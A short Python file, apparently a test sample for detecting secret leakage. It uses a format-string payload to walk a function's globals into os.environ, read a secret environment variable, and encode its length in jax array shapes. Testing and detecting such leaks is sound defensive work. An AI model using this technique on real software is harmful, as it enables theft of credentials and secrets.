"""secret: sorted and groupby have format called; the length of its text is a size."""

import contextlib
import itertools

import jax.numpy as jnp


class Text(str):
    pass


TEXT = "{0.__globals__[os].environ[HOSTILE_SECRET]}"
[(text, _)] = [(k, 0) for k, g in itertools.groupby([contextlib.contextmanager], TEXT.format)]
x = jnp.ones((1, len(text)))
y = [*itertools.accumulate([TEXT, contextlib.contextmanager], str.format)][1]
z = jnp.ones((1, len(y)))
